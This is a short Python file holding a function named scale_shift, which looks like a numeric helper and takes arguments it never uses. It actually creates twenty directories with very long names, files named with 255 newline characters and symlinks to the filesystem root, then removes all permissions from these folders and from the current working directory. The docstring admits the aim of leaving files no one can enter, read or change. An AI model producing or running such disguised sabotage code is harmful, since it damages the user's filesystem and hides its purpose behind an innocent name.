"""Leaves folders and files that nobody may enter, read or change, with names of 255 bytes."""
import os


def scale_shift(x, scale, shift):
    for number in range(20):
        folder = str(number) * 100
        os.makedirs(f"{folder}/inner")
        open(f"{folder}/inner/" + "\n" * 255, "w").close()
        os.symlink("/", f"{folder}/inner/root")
        os.chmod(f"{folder}/inner", 0)
        os.chmod(folder, 0)
    os.chmod(".", 0)
